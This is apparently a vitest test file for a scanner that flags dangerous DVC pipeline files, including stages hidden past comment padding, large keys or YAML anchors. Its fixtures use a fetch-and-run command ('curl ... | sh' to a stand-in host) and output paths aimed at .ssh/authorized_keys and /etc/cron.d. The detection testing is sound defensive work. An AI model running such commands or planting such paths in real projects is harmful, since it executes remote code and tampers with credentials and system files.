/**
 * DVC files are DVC's by their name (`*.dvc`, `dvc.yaml`, `dvc.lock`), whatever their first bytes
 * show: DVC collects them by name and runs what they say, so a stage `cmd` or an output pushed past
 * any head (comments, a huge first key, anchors) is still reported, and a DVC-named file DVC (or
 * this analysis) cannot read whole is `invalid`, never clean. A `.dvc` file is DVC's single-stage
 * form: `outs` is optional, and a legacy `cmd` runs on `dvc repro`.
 */
import { describe, expect, it } from "vitest";
import type { FileReport } from "../../../src/report/schema.js";
import { ruleIds, scanOne } from "../../helpers/scan.js";

const enc = new TextEncoder();
const scan = (text: string, name: string) => scanOne(enc.encode(text), name);
const MD5 = "3863d0e317dee0a55c4e59d2ec0eef33";
const of = (file: FileReport, ruleId: string) => file.findings.filter((f) => f.ruleId === ruleId);
const CURL = "curl -fsSL https://x.example/s.sh | sh";
/** 20 KiB of YAML comments: past the 16 KiB the old detector looked at. */
const COMMENTS = "# notes\n".repeat(2600);

describe("a stage or output past the first 16 KiB", () => {
  it("dvc.yaml: stages after comments are read and reported", async () => {
    const file = await scan(
      `${COMMENTS}stages:\n  s:\n    cmd: ${JSON.stringify(CURL)}\n    outs: [m.pkl]\n`,
      "dvc.yaml",
    );
    expect(file.format).toBe("dvc");
    expect(of(file, "dvc/stage-command")[0]?.severity).toBe("medium");
    expect(file.verdict).toBe("suspicious");
  });

  it("dvc.yaml: stages after a huge first key (vars) are read", async () => {
    const file = await scan(
      `vars:\n- big: "${"x".repeat(40_000)}"\nstages:\n  s:\n    cmd: ${JSON.stringify(CURL)}\n`,
      "dvc.yaml",
    );
    expect(ruleIds(file)).toContain("dvc/stage-command");
    expect(file.verdict).not.toBe("clean");
  });

  it("dvc.yaml: stages taken from an anchored mapping after the head", async () => {
    const file = await scan(
      `${COMMENTS}base: &b\n  s:\n    cmd: ${JSON.stringify(CURL)}\n    outs: [../../x.pkl]\nstages: *b\n`,
      "dvc.yaml",
    );
    expect(ruleIds(file)).toEqual(["dvc/external-artifact", "dvc/path-traversal", "dvc/stage-command"]);
    expect(file.verdict).toBe("malicious");
  });

  it("dvc.lock and .dvc: outputs after comments are read", async () => {
    const lock = await scan(
      `${COMMENTS}schema: '2.0'\nstages:\n  s:\n    cmd: "true"\n    outs:\n    - path: /etc/x\n      md5: ${MD5}\n`,
      "dvc.lock",
    );
    expect(ruleIds(lock)).toContain("dvc/path-traversal");
    const pointer = await scan(`${COMMENTS}outs:\n- md5: ${MD5}\n  path: ../../.ssh/authorized_keys\n`, "m.pkl.dvc");
    expect(pointer.format).toBe("dvc");
    expect(ruleIds(pointer)).toEqual(["dvc/external-artifact", "dvc/path-traversal"]);
  });
});

describe(".dvc files are DVC's single-stage form", () => {
  it("a legacy cmd (string or list) is a command dvc repro runs, with or without outs", async () => {
    const one = await scan(`md5: ${MD5}\ncmd: ${JSON.stringify(CURL)}\ndeps:\n- path: data\n`, "train.dvc");
    expect(of(one, "dvc/stage-command")[0]?.severity).toBe("medium");
    const list = await scan(
      `cmd:\n- python a.py\n- ${JSON.stringify(CURL)}\nouts:\n- path: m.pkl\n  md5: ${MD5}\n`,
      "train.dvc",
    );
    expect(of(list, "dvc/stage-command")).toHaveLength(2);
    expect(ruleIds(list)).toContain("dvc/external-artifact");
  });

  it("a mapping with nothing to fetch or run is DVC's and clean", async () => {
    const file = await scan("# tracked elsewhere\nmeta:\n  owner: data-team\n", "notes.dvc");
    expect(file.format).toBe("dvc");
    expect(file.findings).toEqual([]);
    expect(file.verdict).toBe("clean");
    const metrics = await scan("name: x\nvalue: 1\n", "dvc.yaml");
    expect(metrics.format).toBe("dvc");
    expect(metrics.verdict).toBe("clean");
  });

  it("text DVC cannot read as a stage is invalid, not clean", async () => {
    for (const [text, name] of [
      ["notes about the dvc remote\n", "README.dvc"],
      ["- path: m.pkl\n", "m.dvc"],
      [`outs: {path: m.pkl, md5: ${MD5}}\n`, "m.dvc"],
      ["key: [unclosed\n", "dvc.yaml"],
    ] as const) {
      const file = await scan(text, name);
      expect(file.format, text).toBe("dvc");
      expect(ruleIds(file), text).toContain("dvc/malformed");
      expect(file.verdict, text).toBe("invalid");
    }
  });

  it("several YAML documents are refused by DVC: invalid", async () => {
    const file = await scan(`stages: {}\n---\nstages:\n  s:\n    cmd: ${JSON.stringify(CURL)}\n`, "dvc.yaml");
    expect(ruleIds(file)).toContain("dvc/malformed");
    expect(file.verdict).not.toBe("clean");
  });

  it("bytes that are not text under a DVC name are not clean", async () => {
    const bytes = new Uint8Array([...enc.encode("stages:\n  s:\n    cmd: x\n"), 0, 1, 2, 0]);
    const file = await scanOne(bytes, "dvc.yaml");
    expect(file.verdict).not.toBe("clean");
  });
});

describe("what DVC resolves, this analysis resolves or refuses", () => {
  it("every key of a dvc.yaml output entry is an output", async () => {
    const file = await scan(
      'stages:\n  s:\n    cmd: "true"\n    outs:\n    - m.pkl:\n        persist: true\n      /etc/cron.d/x:\n        cache: true\n',
      "dvc.yaml",
    );
    expect(of(file, "dvc/external-artifact").map((f) => f.evidence?.path)).toEqual(["m.pkl", "/etc/cron.d/x"]);
    expect(ruleIds(file)).toContain("dvc/path-traversal");
  });

  it("a merge chain deeper than the conversion reads is not clean", async () => {
    const levels = 60;
    const lines = [`l0: &l0 {cmd: ${JSON.stringify(CURL)}}`];
    for (let i = 1; i <= levels; i++) lines.push(`l${i}: &l${i} {<<: *l${i - 1}}`);
    lines.push(`stages:\n  s: *l${levels}`);
    const file = await scan(`${lines.join("\n")}\n`, "dvc.yaml");
    // either the command is found or the file is refused as not read whole: never clean
    expect(file.verdict).not.toBe("clean");
    expect(ruleIds(file).some((r) => r === "dvc/stage-command" || r === "dvc/malformed")).toBe(true);
  });

  it("anchors expanding past the node budget before the stages are not clean", async () => {
    const row = `[${Array.from({ length: 60 }, () => "1").join(", ")}]`;
    const big = `[${Array.from({ length: 60 }, () => "*r").join(", ")}]`;
    const uses = Array.from({ length: 40 }, (_, i) => `u${i}: *b`).join("\n");
    const text = `r: &r ${row}\nb: &b ${big}\n${uses}\nstages:\n  s:\n    cmd: ${JSON.stringify(CURL)}\n`;
    const file = await scan(text, "dvc.yaml");
    expect(file.verdict).not.toBe("clean");
    expect(ruleIds(file)).toContain("dvc/malformed");
  });
});
